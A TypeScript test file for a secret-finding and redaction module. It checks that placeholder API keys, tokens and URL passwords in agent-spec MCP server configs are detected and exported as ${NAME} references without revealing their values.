// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell commands and spec placeholders, where ${…} is meant literally.

import { growth } from "@loopwright/testkit";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns, propertyTimeout } from "../../../test-support/properties.js";
import { AgentSpecError } from "./errors.js";
import { exportSpec } from "./export-spec.js";
import { findSpecSecrets, withoutArgSecrets, withoutSecrets } from "./find-spec-secrets.js";
import { parseSpec } from "./parse-spec.js";
import { withoutProseSecrets } from "./prose-secrets.js";
import { SPEC_TOKEN } from "./schema.js";
import { looksLikeKey, SecretSign } from "./secret-signs.js";
import type { AgentSpec, BundledServer } from "./types.js";

/** Base64 of an ASCII text, with its padding (the package's tests run without DOM or Node globals' types). */
const toBase64 = (text: string): string => {
  const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  let out = "";
  for (let at = 0; at < text.length; at += 3) {
    const [a = 0, b = 0, c = 0] = [0, 1, 2].map((i) => text.charCodeAt(at + i) || 0);
    const bits = (a << 16) | (b << 8) | c;
    const left = text.length - at;
    out += digits[(bits >> 18) & 63] ?? "";
    out += digits[(bits >> 12) & 63] ?? "";
    out += left > 1 ? (digits[(bits >> 6) & 63] ?? "") : "=";
    out += left > 2 ? (digits[bits & 63] ?? "") : "=";
  }
  return out;
};

const withServer = (server: Partial<BundledServer>): AgentSpec => ({
  spec: SPEC_TOKEN,
  bundle: { mcpServers: [{ name: "srv", command: "run-it", ...server }] },
});

/** `text` as a regular expression that matches it and nothing else. */
const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** A spec whose bundled server runs `sh -c command`: a shell's own command. */
const sh = (command: string) => withServer({ command: "sh", args: ["-c", command] });
/** A spec whose bundled server's `command` is a whole command line, pasted. */
const pasted = (line: string) => withServer({ command: line });
/** The command exportSpec writes for a pasted command line. */
const exportedLine = (line: string) => exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command;
/**
 * A line that starts with `NAME=` or `--flag=`: as one argument it is read as one assignment or one
 * flag's value (a telling one taken whole), not as a command line.
 */
const ASSIGNED = /^(?:[A-Za-z_][\w.-]*|--?[A-Za-z][\w.-]*)=/;

// The command-line reader (a pasted `command`, an argument that merely holds whitespace and is no
// shell's own command) keeps every character of a line but each secret's value. A shell's own
// command is exported whole instead: see shell-command-export.test.ts.

/**
 * The reader writes `line` as `safe`: exportSpec as a pasted `command` (as `exported` when given:
 * the export names one reference per distinct credential, never one the spec already writes), and
 * withoutArgSecrets as an argument after `--run` when `asArg` (by default unless `line` starts with
 * `NAME=` or `--flag=`: see `ASSIGNED`).
 */
function expectHidden(line: string, safe: string, asArg = !ASSIGNED.test(line), exported = safe): void {
  expect(exportedLine(line)).toBe(exported);
  if (asArg) expect(withoutArgSecrets(["--run", line])).toEqual(["--run", safe]);
}

/** The `${NAME}` references `text` writes, in order, once each: what a hint lists for a place the export wrote so (no reference of the author's in it). */
const referencesIn = (text: string): string[] => [
  ...new Set(Array.from(text.matchAll(/\$\{[A-Za-z_][A-Za-z0-9_]*\}/g), (match) => match[0])),
];

/** The reader leaves `safe`, what it wrote, as it is, and flags nothing in it. */
function expectStable(safe: string): void {
  expect(exportedLine(safe)).toBe(safe);
  expect(findSpecSecrets(pasted(safe))).toEqual([]);
  if (!ASSIGNED.test(safe)) expect(withoutArgSecrets(["--run", safe])).toEqual(["--run", safe]);
}

/** findSpecSecrets names the pasted `line` once, at the command, and nothing in what exportSpec hands back. */
function expectFlaggedOnce(line: string): void {
  expect(findSpecSecrets(pasted(line)).map((hint) => hint.path)).toEqual(["bundle.mcpServers[0].command"]);
  expect(findSpecSecrets(exportSpec(pasted(line)))).toEqual([]);
}

/** A script rather than one command line: a line break, or a heredoc's `<<` (an arithmetic shift's too; not a here-string's `<<<`). */
const SCRIPT = /[\n\r]|(?:^|[^<])<<(?!<)/;

/**
 * A script (see `SCRIPT`) that may hold a credential, pasted as a `command` or given as a plain
 * argument, is exported whole as a shell's own command is (fix113): `${SRV_COMMAND}` in the
 * export, `${SHELL_COMMAND}` from withoutArgSecrets (unless it starts `NAME=`: see `ASSIGNED`),
 * reported once.
 */
function expectWholeLine(line: string): void {
  expect(exportedLine(line)).toBe("${SRV_COMMAND}");
  if (!ASSIGNED.test(line)) expect(withoutArgSecrets(["--run", line])).toEqual(["--run", "${SHELL_COMMAND}"]);
  expectFlaggedOnce(line);
}

describe("findSpecSecrets names the places a credential may be, with the reason", () => {
  // The references the export writes there, when it writes any (a URL's credentials are dropped,
  // `env` and `headers` removed).
  it.each<[string, Partial<BundledServer>, string, SecretSign, string[]?]>([
    [
      "a --api-key flag's value",
      { args: ["serve", "--api-key", "abc123"] },
      "args[2]",
      SecretSign.Flag,
      ["${API_KEY}"],
    ],
    ["a --token=value argument", { args: ["--token=abc123"] }, "args[0]", SecretSign.Flag, ["${TOKEN}"]],
    [
      "a -p password flag's value",
      { args: ["-password", "hunter2"] },
      "args[1]",
      SecretSign.Flag,
      ["${PASSWORD}"],
    ],
    [
      "a header given as an argument",
      { args: ["-H", "Authorization: Bearer abcdefgh12345"] },
      "args[1]",
      SecretSign.Flag,
      ["${AUTHORIZATION}"],
    ],
    [
      "user:pass in a URL argument",
      { args: ["postgres://admin:pw@db.local/app"] },
      "args[0]",
      SecretSign.Userinfo,
    ],
    [
      "a token in a URL query argument",
      { args: ["https://h.example/sse?token=abc"] },
      "args[0]",
      SecretSign.Query,
    ],
    [
      "a key-shaped positional argument",
      { args: ["ghp_abcdefghijklmnopqrstuvwxyz0123"] },
      "args[0]",
      SecretSign.Value,
      ["${SECRET}"],
    ],
    [
      "an OpenAI-shaped key",
      { args: ["sk-proj-abcdefghijklmnopqrstu"] },
      "args[0]",
      SecretSign.Value,
      ["${SECRET}"],
    ],
    [
      "a JWT",
      { args: ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig"] },
      "args[0]",
      SecretSign.Value,
      ["${SECRET}"],
    ],
    ["a telling env name", { env: { GITHUB_TOKEN: "abc" } }, "env.GITHUB_TOKEN", SecretSign.Field],
    [
      "a key-shaped env value under a plain name",
      { env: { CONFIG: "xoxb-1234567890-abc" } },
      "env.CONFIG",
      SecretSign.Value,
    ],
    [
      "a connection string in env",
      { env: { DATABASE_URL: "postgres://u:p@h/db" } },
      "env.DATABASE_URL",
      SecretSign.Userinfo,
    ],
    [
      "an Authorization header",
      { headers: { Authorization: "Bearer abc" } },
      "headers.Authorization",
      SecretSign.Field,
    ],
    ["an x-api-key header", { headers: { "x-api-key": "abc" } }, 'headers["x-api-key"]', SecretSign.Field],
    // Shapes pasted .mcp.json files really use. docker's `-e NAME=value`, as README snippets for
    // ghcr.io/github/github-mcp-server write it ("-e", "GITHUB_PERSONAL_ACCESS_TOKEN=<TOKEN>").
    [
      "a docker -e assignment with a telling name",
      {
        command: "docker",
        args: ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN=abc123", "mcp/github"],
      },
      "args[4]",
      SecretSign.Flag,
      ["${GITHUB_PERSONAL_ACCESS_TOKEN}"],
    ],
    // mcp-remote's documented header form, with no space after the colon.
    [
      "an mcp-remote --header with no space after the colon",
      { args: ["mcp-remote", "https://mcp.example.com/sse", "--header", "Authorization:Bearer abc123"] },
      "args[3]",
      SecretSign.Flag,
      ["${AUTHORIZATION}"],
    ],
    // @modelcontextprotocol/server-postgres takes its connection string as a positional argument.
    [
      "a connection string as a positional argument",
      {
        args: [
          "-y",
          "@modelcontextprotocol/server-postgres",
          "postgresql://app:hunter2pw@db.internal:5432/prod",
        ],
      },
      "args[2]",
      SecretSign.Userinfo,
    ],
    ["a password-only redis URL", { args: ["redis://:s3cret@cache:6379/0"] }, "args[0]", SecretSign.Userinfo],
    [
      "a remote server URL with an api_key query",
      { command: undefined, url: "https://server.example.ai/@org/tool/mcp?api_key=abc&profile=x" },
      "url",
      SecretSign.Query,
    ],
  ])("%s", (_, server, where, sign, references) => {
    const [hint, ...rest] = findSpecSecrets(withServer(server));
    expect(rest).toEqual([]);
    expect(hint).toEqual({
      path: `bundle.mcpServers[0].${where}`,
      server: "srv",
      sign,
      ...(references ? { references } : {}),
    });
  });

  it("reads a bundled server's URL", () => {
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: {
        mcpServers: [
          { name: "a", url: "https://me:secret@mcp.example/mcp" },
          { name: "b", url: "https://mcp.example/mcp?api_key=abc" },
        ],
      },
    };
    expect(findSpecSecrets(spec)).toEqual([
      { path: "bundle.mcpServers[0].url", server: "a", sign: SecretSign.Userinfo },
      { path: "bundle.mcpServers[1].url", server: "b", sign: SecretSign.Query },
    ]);
  });

  it("reads a key shape or a URL's credentials in a server's command, written as one command line", () => {
    const spec = withServer({
      command:
        "docker run -i --rm -e GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz12 ghcr.io/github/github-mcp-server",
    });
    expect(findSpecSecrets(spec)).toEqual([
      {
        path: "bundle.mcpServers[0].command",
        server: "srv",
        sign: SecretSign.Flag,
        references: ["${GITHUB_TOKEN}"],
      },
    ]);
    // Its words are read as args are: the assignment names the variable the host fills.
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.command).toBe(
      `docker run -i --rm -e GITHUB_TOKEN=\${GITHUB_TOKEN} ghcr.io/github/github-mcp-server`,
    );
    const key = withServer({ command: "run-it --model ghp_abcdefghijklmnopqrstuvwxyz12 --quiet" });
    expect(findSpecSecrets(key).map((hint) => hint.sign)).toEqual([SecretSign.Value]);
    expect(exportSpec(key).bundle?.mcpServers?.[0]?.command).toBe(`run-it --model \${SECRET} --quiet`);
    const url = withServer({ command: "https://me:pw@mcp.example/run.sh" });
    expect(findSpecSecrets(url).map((hint) => hint.sign)).toEqual([SecretSign.Userinfo]);
    expect(exportSpec(url).bundle?.mcpServers?.[0]?.command).toBe("https://mcp.example/run.sh");
    expect(findSpecSecrets(withServer({ command: "${MCP_BIN}" }))).toEqual([]);
  });

  it.each<[string, string, SecretSign, string]>([
    [
      "a --api-key=value word",
      "npx -y some-mcp --api-key=abc123def456",
      SecretSign.Flag,
      `npx -y some-mcp --api-key=\${API_KEY}`,
    ],
    [
      "a docker -e assignment",
      "docker run -e GITHUB_TOKEN=abc123def456 ghcr.io/x/y",
      SecretSign.Flag,
      `docker run -e GITHUB_TOKEN=\${GITHUB_TOKEN} ghcr.io/x/y`,
    ],
    [
      "a --token flag's next word",
      "some-mcp --token abc123 --port 80",
      SecretSign.Flag,
      `some-mcp --token \${TOKEN} --port 80`,
    ],
    [
      "a quoted header word",
      'curl -H "Authorization: Bearer abc123" https://h.example/mcp',
      SecretSign.Flag,
      `curl -H "Authorization: \${AUTHORIZATION}" https://h.example/mcp`,
    ],
    [
      "a single-quoted value with a space, its quotes and the spacing around it kept",
      "srv  --password='two words'\t--verbose",
      SecretSign.Flag,
      `srv  --password='\${PASSWORD}'\t--verbose`,
    ],
    [
      "a URL word with credentials",
      "mcp-proxy https://me:pw@mcp.example/sse",
      SecretSign.Userinfo,
      "mcp-proxy https://mcp.example/sse",
    ],
  ])(
    "reads a command line in a server's command with the rules for args: %s",
    (_, command, sign, exported) => {
      const spec = withServer({ command });
      // Each reference the export writes, and only those, is reported (none for a URL's credentials).
      const references = [...exported.matchAll(/\$\{[A-Z_]+\}/g)].map((match) => match[0]);
      expect(findSpecSecrets(spec)).toEqual([
        {
          path: "bundle.mcpServers[0].command",
          server: "srv",
          sign,
          ...(references.length > 0 ? { references } : {}),
        },
      ]);
      const out = exportSpec(spec);
      expect(out.bundle?.mcpServers?.[0]?.command).toBe(exported);
      expect(findSpecSecrets(out)).toEqual([]);
    },
  );

  it("names a command line once however many words in it are flagged, and leaves references alone", () => {
    const spec = withServer({ command: `srv --token abc123 -e DB_PASS=hunter2 --api-key=\${KEY}` });
    // The author's own `${KEY}` is no reference the export gives.
    expect(findSpecSecrets(spec)).toEqual([
      {
        path: "bundle.mcpServers[0].command",
        server: "srv",
        sign: SecretSign.Flag,
        references: ["${TOKEN}", "${DB_PASS}"],
      },
    ]);
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.command).toBe(
      `srv --token \${TOKEN} -e DB_PASS=\${DB_PASS} --api-key=\${KEY}`,
    );
    expect(findSpecSecrets(withServer({ command: `srv --token \${TOKEN} --name 'my server'` }))).toEqual([]);
  });

  it("reads a URL whose host and port are references for the host to fill, which a URL parser refuses", () => {
    const baseUrl = "http://${LLM_HOST}:${LLM_PORT}/v1?api_key=abc123&region=eu";
    const url = "https://me:pw@${MCP_HOST}:${MCP_PORT}/mcp";
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      model: { endpoint: { baseUrl } },
      bundle: { mcpServers: [{ name: "web", url }] },
    };
    expect(findSpecSecrets(spec)).toEqual([
      { path: "model.endpoint.baseUrl", sign: SecretSign.Query },
      { path: "bundle.mcpServers[0].url", server: "web", sign: SecretSign.Userinfo },
    ]);
    const out = exportSpec(spec);
    expect(out.model?.endpoint?.baseUrl).toBe("http://${LLM_HOST}:${LLM_PORT}/v1?region=eu");
    expect(out.bundle?.mcpServers?.[0]?.url).toBe("https://${MCP_HOST}:${MCP_PORT}/mcp");
    expect(findSpecSecrets(out)).toEqual([]);
  });

  it("keeps a URL with a referenced host and port and a later @ (a scoped path, an email in the query) as written", () => {
    const url = "http://${MCP_HOST}:${MCP_PORT}/@acme/mcp";
    const arg = "http://${H}:${P}/x?user=me@corp.com";
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: {
        mcpServers: [
          { name: "web", url },
          { name: "cli", command: "run-it", args: [arg] },
        ],
      },
    };
    expect(findSpecSecrets(spec)).toEqual([]);
    const out = exportSpec(spec).bundle?.mcpServers;
    expect(out?.[0]?.url).toBe(url);
    expect(out?.[1]?.args).toEqual([arg]);
    expect(withoutSecrets(url)).toBe(url);
    expect(withoutArgSecrets([arg])).toEqual([arg]);
    // A password the parser refuses is still read: the text before its # is not a port.
    expect(findSpecSecrets(withServer({ args: ["postgres://admin:s3cr3t#1@db/app"] }))).toEqual([
      { path: "bundle.mcpServers[0].args[0]", server: "srv", sign: SecretSign.Userinfo },
    ]);
  });

  it("reads the short query names client masks as credentials: Azure's ?code= and ?sig=, ?session=, ?jwt=", () => {
    const urls = [
      "https://fn.azurewebsites.net/runtime/webhooks/mcp/sse?code=Zm9vYmFyYmF6cXV4MTIz==",
      "https://acct.blob.core.windows.net/c?sv=2022-11-02&sig=abcDEF123%2Bxyz%3D",
      "https://mcp.example/mcp?Session=abc123&jwt=x.y.z",
    ];
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: { mcpServers: urls.map((url, index) => ({ name: `s${index}`, url })) },
    };
    expect(findSpecSecrets(spec).map((hint) => hint.sign)).toEqual(Array(3).fill(SecretSign.Query));
    expect(exportSpec(spec).bundle?.mcpServers?.map((server) => server.url)).toEqual([
      "https://fn.azurewebsites.net/runtime/webhooks/mcp/sse",
      "https://acct.blob.core.windows.net/c?sv=2022-11-02",
      "https://mcp.example/mcp",
    ]);
    // Only as a query parameter's whole name: a flag or a longer name is not read so.
    expect(
      findSpecSecrets(withServer({ args: ["--code", "print(1)", "https://h.example/?codec=h264&signal=1"] })),
    ).toEqual([]);
  });

  it("reads a password with #, / or ? written unescaped in a URL, which a URL parser refuses", () => {
    // The WHATWG parser ends the host at the #, reads "s3cr3t" as a port and throws; the password
    // is still there in the text, and a database server's own parser may take it.
    const urls = [
      "postgres://admin:s3cr3t#1@db.example/app",
      "https://admin:pa/ss@mcp.example/mcp",
      "https://admin:what?now@mcp.example/mcp",
    ];
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: { mcpServers: [{ name: "db", command: "pg-mcp", args: urls }] },
    };
    expect(findSpecSecrets(spec)).toEqual(
      urls.map((_, index) => ({
        path: `bundle.mcpServers[0].args[${index}]`,
        server: "db",
        sign: SecretSign.Userinfo,
      })),
    );
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual([
      "postgres://db.example/app",
      "https://mcp.example/mcp",
      "https://mcp.example/mcp",
    ]);
    // As an endpoint's baseUrl or a server's url, the client and tools-mcp refuse such a URL, so
    // parseSpec drops it (r79a #3), naming the field and never the value.
    const { spec: parsed, warnings } = parseSpec(
      {
        spec: SPEC_TOKEN,
        model: { endpoint: { baseUrl: urls[1] } },
        bundle: { mcpServers: [{ name: "web", url: urls[2] }] },
      },
      { bundle: true },
    );
    expect(warnings.map((warning) => warning.path)).toEqual([
      "model.endpoint.baseUrl",
      "bundle.mcpServers[0].url",
      "bundle.mcpServers[0]",
    ]);
    expect(warnings.join("\n")).not.toMatch(/pa\/ss|what\?now/);
    expect(findSpecSecrets(parsed as AgentSpec)).toEqual([]);
    expect(withoutSecrets(urls[0] as string, undefined, () => "(hidden)")).toBe(
      "postgres://(hidden)@db.example/app",
    );
  });

  it("reads a key-shaped value in a URL's path, as hosted MCP servers and proxies take one", () => {
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      model: { endpoint: { baseUrl: "https://proxy.example/sk-proj-abcdefghijklmnop1234/v1" } },
      tasks: { title: { endpoint: { baseUrl: "https://h.example/gsk_abcdefghijklmnopqrstuv/v1" } } },
      bundle: {
        mcpServers: [
          { name: "a", url: "https://mcp.example/tvly-abcdefghijklmnopqrst/sse" },
          // Both signs at once: what the export leaves must be clean of both.
          { name: "b", url: "https://me:pw@mcp.example/ghp_abcdefghijklmnopqrstuvwxyz0123/mcp" },
        ],
      },
    };
    // Four different keys: four references (r42a #9: one `${SECRET}` for all could not be filled back).
    expect(findSpecSecrets(spec)).toEqual([
      { path: "model.endpoint.baseUrl", sign: SecretSign.Value, references: ["${SECRET}"] },
      { path: "tasks.title.endpoint.baseUrl", sign: SecretSign.Value, references: ["${SECRET_2}"] },
      {
        path: "bundle.mcpServers[0].url",
        server: "a",
        sign: SecretSign.Value,
        references: ["${SECRET_3}"],
      },
      {
        path: "bundle.mcpServers[1].url",
        server: "b",
        sign: SecretSign.Userinfo,
        references: ["${SECRET_4}"],
      },
    ]);
    const exported = exportSpec(spec);
    expect(findSpecSecrets(exported)).toEqual([]);
    expect(exported.model?.endpoint?.baseUrl).toBe("https://proxy.example/${SECRET}/v1");
    expect(exported.bundle?.mcpServers?.[1]?.url).toBe("https://mcp.example/${SECRET_4}/mcp");
    const shown = JSON.stringify(exported);
    for (const key of ["sk-proj-", "gsk_", "tvly-", "ghp_", "me:pw"]) expect(shown).not.toContain(key);
  });

  it("reads endpoint URLs and extraBody at any depth, with no server named", () => {
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      model: {
        endpoint: { baseUrl: "https://proxy.example/v1?key=abc" },
        extraBody: { metadata: { api_key: "abc" }, top_k: 20, max_tokens: 10 },
      },
      tasks: {
        title: {
          endpoint: { baseUrl: "https://u:p@h.example/v1" },
          extraBody: { user: "sk-ant-abcdefghijklmnopqrst" },
        },
      },
    };
    expect(findSpecSecrets(spec)).toEqual([
      { path: "model.endpoint.baseUrl", sign: SecretSign.Query },
      { path: "model.extraBody.metadata.api_key", sign: SecretSign.Field, references: ["${API_KEY}"] },
      { path: "tasks.title.endpoint.baseUrl", sign: SecretSign.Userinfo },
      { path: "tasks.title.extraBody.user", sign: SecretSign.Value, references: ["${SECRET}"] },
    ]);
  });

  it.each<[string, Partial<BundledServer>]>([
    [`a \${VAR} env value`, { env: { GITHUB_TOKEN: `\${GITHUB_TOKEN}` } }],
    [`a \${VAR} header after Bearer`, { headers: { Authorization: `Bearer \${TOKEN}` } }],
    [`a \${VAR} flag value`, { args: ["--api-key", `\${KEY}`] }],
    [`a \${VAR} inline flag`, { args: [`--token=\${TOKEN}`] }],
    [`a \${VAR} query parameter`, { args: [`https://h.example/?token=\${T}`] }],
    ["an empty telling value", { env: { API_KEY: "" } }],
    ["plain arguments", { args: ["-y", "@modelcontextprotocol/server-filesystem", "/srv/data"] }],
    ["a plain env entry", { env: { NODE_ENV: "production", DEBUG: "1" } }],
  ])("does not report %s", (_, server) => {
    expect(findSpecSecrets(withServer(server))).toEqual([]);
  });

  it("guesses both ways, as documented: --keyboard is named, a bare positional secret is missed", () => {
    expect(findSpecSecrets(withServer({ args: ["--keyboard", "us"] }))).toHaveLength(1);
    expect(findSpecSecrets(withServer({ args: ["hunter2"] }))).toEqual([]);
  });

  // Key prefixes providers and MCP-server services print in their docs and .env examples (Groq
  // "gsk_", xAI "xai-", Perplexity "pplx-", Cerebras "csk-", Fireworks "fw_", Replicate "r8_",
  // LangSmith "lsv2_pt_", Tavily "tvly-dev-", Brave Search "BSA", Stripe "sk_live_", npm "npm_",
  // Linear "lin_api_", Supabase "sbp_", Notion "ntn_"). The values below are made up to the shape.
  it.each([
    "gsk_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOP",
    "xai-abcdefghijklmnopqrstuvwxyz0123456789",
    "pplx-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL",
    "csk-abcdefghijklmnopqrstuvwxyz0123456789",
    "fw_abcdefghijklmnopqrstuvwx",
    "r8_abcdefghijklmnopqrstuvwxyz0123456789",
    "lsv2_pt_abcdefghijklmnopqrstuvwxyz012345_abcdef0123",
    "tvly-dev-abcdefghijklmnopqrstuvwxyz012345",
    "BSAabcdefghijklmnopqrstuvwxyz01",
    "sk_live_abcdefghijklmnopqrstuvwx",
    "npm_abcdefghijklmnopqrstuvwxyz0123456789",
    "lin_api_abcdefghijklmnopqrstuvwxyz0123456789",
    "sbp_abcdef0123456789abcdef0123456789abcdef",
    "ntn_abcdefghijklmnopqrstuvwxyz0123456789ABCDEF",
  ])("names a key shaped like %s under a plain name", (value) => {
    expect(findSpecSecrets(withServer({ env: { CONFIG: value } }))).toEqual([
      { path: "bundle.mcpServers[0].env.CONFIG", server: "srv", sign: SecretSign.Value },
    ]);
  });

  it("passes over names that only share a prefix with a key: a model name, a short word", () => {
    const args = ["--model", "pplx-embed-v1-0.6b", "fw_config", "xai-grok", "sk-short"];
    expect(findSpecSecrets(withServer({ args }))).toEqual([]);
  });

  it("passes over docker -e assignments that hold a reference or a setting with a plain name", () => {
    const args = [
      "run",
      "-i",
      "--rm",
      "-e",
      `GITHUB_PERSONAL_ACCESS_TOKEN=\${GITHUB_PAT}`,
      "-e",
      "GITHUB_TOOLSETS=issues",
      "-e",
      "GITHUB_PERSONAL_ACCESS_TOKEN",
      "ghcr.io/github/github-mcp-server",
    ];
    expect(findSpecSecrets(withServer({ command: "docker", args }))).toEqual([]);
  });

  it("never returns the value", () => {
    const hints = findSpecSecrets(
      withServer({ env: { API_KEY: "abc-very-secret" }, args: ["--token", "tok-123"] }),
    );
    expect(JSON.stringify(hints)).not.toMatch(/very-secret|tok-123/);
  });

  it("finds nothing in what exportSpec hands back", () => {
    const spec = withServer({
      args: ["--api-key", "abc"],
      env: { API_KEY: "abc" },
      headers: { Authorization: "Bearer abc" },
    });
    expect(findSpecSecrets(spec).map((hint) => hint.path)).toEqual([
      "bundle.mcpServers[0].args[1]",
      "bundle.mcpServers[0].env.API_KEY",
      "bundle.mcpServers[0].headers.Authorization",
    ]);
    expect(findSpecSecrets(exportSpec(spec))).toEqual([]);
  });

  it("reads a key anywhere else in the spec: a whole field, and a word of the prompt or a description", () => {
    const key = "sk-proj-abcdefghijklmnopqrstuvwxyz0123";
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      name: key,
      description: `token ${key}`,
      model: { name: key },
      prompt: [
        { id: "p", text: key },
        { id: "q", text: `Use key ${key}. Send Authorization: Bearer ${key}\nthanks` },
      ],
      hooks: [{ id: "h", events: ["beforeTurn"], server: "s", tool: key }],
      tasks: { title: { model: key } },
      bundle: { mcpServers: [{ name: key, command: "run-it" }] },
    };
    const hints = findSpecSecrets(spec);
    expect(hints.map((hint) => [hint.path, hint.sign])).toEqual(
      expect.arrayContaining([
        ["name", SecretSign.Value],
        ["description", SecretSign.Value],
        ["model.name", SecretSign.Value],
        ["prompt[0].text", SecretSign.Value],
        ["prompt[1].text", SecretSign.Value],
        ["hooks[0].tool", SecretSign.Value],
        ["tasks.title.model", SecretSign.Value],
        ["bundle.mcpServers[0].name", SecretSign.Value],
      ]),
    );
    // A server named with a key is not named in the hints: they never hand back the value.
    expect(hints.find((hint) => hint.path === "bundle.mcpServers[0].name")).not.toHaveProperty("server");
    expect(JSON.stringify(hints)).not.toContain(key);
    const out = exportSpec(spec);
    expect(JSON.stringify(out)).not.toContain(key);
    expect(findSpecSecrets(out)).toEqual([]);
    // Redacted where it stands: the prose around the key is kept as written.
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the ${SECRET} reference, meant literally.
    const ref = "${SECRET}";
    expect(out.prompt?.[1]?.text).toBe(`Use key ${ref}. Send Authorization: Bearer ${ref}\nthanks`);
    expect(out.description).toBe(`token ${ref}`);
    expect(out.name).toBe(ref);
    expect(out.tasks?.title?.model).toBe(ref);
  });

  it("leaves ordinary prose alone, words such as Token and Bearer followed by a long word included (property)", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a ${VAR} reference, meant literally.
    const prose = "Use Token authentication and a Bearer credential; the sk-short id and ${API_KEY} stay.";
    const spec: AgentSpec = { spec: SPEC_TOKEN, description: prose, prompt: [{ id: "p", text: prose }] };
    expect(findSpecSecrets(spec)).toEqual([]);
    expect(exportSpec(spec)).toEqual(spec);
    const word = fc.stringMatching(/^[A-Za-z,.;:'()!?]{1,12}$/);
    fc.assert(
      fc.property(fc.array(word, { maxLength: 30 }), fc.constantFrom(" ", "\n", "  "), (words, gap) => {
        const text = words.join(gap);
        const doc: AgentSpec = { spec: SPEC_TOKEN, description: text, prompt: [{ id: "p", text }] };
        expect(findSpecSecrets(doc)).toEqual([]);
        expect(exportSpec(doc)).toEqual(doc);
      }),
    );
  });

  it("reads a name holding spaces a word at a time: Token, Basic and Bearer before an ordinary word are not a key (property)", () => {
    for (const name of ["Token accounting helper", "Basic research assistant", "Bearer of good news"]) {
      const spec: AgentSpec = {
        spec: SPEC_TOKEN,
        name,
        bundle: { mcpServers: [{ name, command: "run-it" }] },
        hooks: [{ id: name, events: ["beforeTurn"], server: name, tool: "lookup" }],
      };
      expect(findSpecSecrets(spec)).toEqual([]);
      expect(exportSpec(spec).name).toBe(name);
    }
    // Ordinary words, the three that start an Authorization value among them, and long ones after them.
    const word = fc.oneof(
      fc.constantFrom("Token", "Basic", "Bearer", "token", "BASIC", "bearer", "accounting", "authentication"),
      fc.stringMatching(/^[A-Za-z][a-z]{0,15}$/),
    );
    fc.assert(
      fc.property(
        fc.array(word, { minLength: 2, maxLength: 8 }),
        fc.constantFrom(" ", "  ", "\t"),
        (words, gap) => {
          const name = words.join(gap);
          const doc: AgentSpec = {
            spec: SPEC_TOKEN,
            name,
            bundle: { mcpServers: [{ name, command: "run-it", cwd: `/srv/${name}` }] },
          };
          expect(findSpecSecrets(doc)).toEqual([]);
          expect(exportSpec(doc)).toEqual(doc);
        },
      ),
    );
  });

  it("finds a key pasted into a name holding spaces, and exports only that word as a SECRET reference", () => {
    const key = "sk-proj-abcdefghijklmnopqrstuvwxyz0123";
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the ${SECRET} reference, meant literally.
    const ref = "${SECRET}";
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      name: `my agent ${key}`,
      bundle: { mcpServers: [{ name: `search ${key} server`, command: "run-it" }] },
    };
    const hints = findSpecSecrets(spec);
    // A server whose name holds a key is not named in the hints: they never hand back the value.
    // One key, one reference, wherever it is.
    expect(hints).toEqual([
      { path: "name", sign: SecretSign.Value, references: [ref] },
      { path: "bundle.mcpServers[0].name", sign: SecretSign.Value, references: [ref] },
    ]);
    expect(JSON.stringify(hints)).not.toContain(key);
    const out = exportSpec(spec);
    expect(out.name).toBe(`my agent ${ref}`);
    expect(out.bundle?.mcpServers?.[0]?.name).toBe(`search ${ref} server`);
    expect(findSpecSecrets(out)).toEqual([]);
  });

  it("still reads a header's or an extraBody value whole: an Authorization value with its space is found", () => {
    const value = "Bearer abcdefgh12345678";
    const references = ["${SECRET}"];
    // A header is removed by the export: no reference is written there.
    expect(findSpecSecrets(withServer({ headers: { "X-Forward": value } }))).toEqual([
      { path: 'bundle.mcpServers[0].headers["X-Forward"]', server: "srv", sign: SecretSign.Value },
    ]);
    expect(findSpecSecrets({ spec: SPEC_TOKEN, model: { extraBody: { forward: value } } })).toEqual([
      { path: "model.extraBody.forward", sign: SecretSign.Value, references },
    ]);
    expect(findSpecSecrets(withServer({ args: ["-H", `X-Forward: ${value}`] }))).toEqual([
      { path: "bundle.mcpServers[0].args[1]", server: "srv", sign: SecretSign.Value, references },
    ]);
    // In a name it is free text, read a word at a time: the word after `Bearer` is found when it
    // reads as a token (16 characters, letters and digits), and only it is exported as a reference.
    expect(findSpecSecrets({ spec: SPEC_TOKEN, name: value })).toEqual([
      { path: "name", sign: SecretSign.Value, references },
    ]);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the ${SECRET} reference, meant literally.
    expect(exportSpec({ spec: SPEC_TOKEN, name: value }).name).toBe("Bearer ${SECRET}");
  });

  it("finds a token with no vendor prefix after Bearer, Basic or Token in a name or prose, and exports only the token as a SECRET reference", () => {
    const hex = "3f2a9c0d7e1b4a6f8c2d5e7a9b0c1d2e";
    const basic = "YWRtaW46aHVudGVyMmh1bnRlcjI="; // admin:hunter2hunter2
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the ${SECRET} reference, meant literally.
    const ref = "${SECRET}";
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      name: `Bearer ${hex}`,
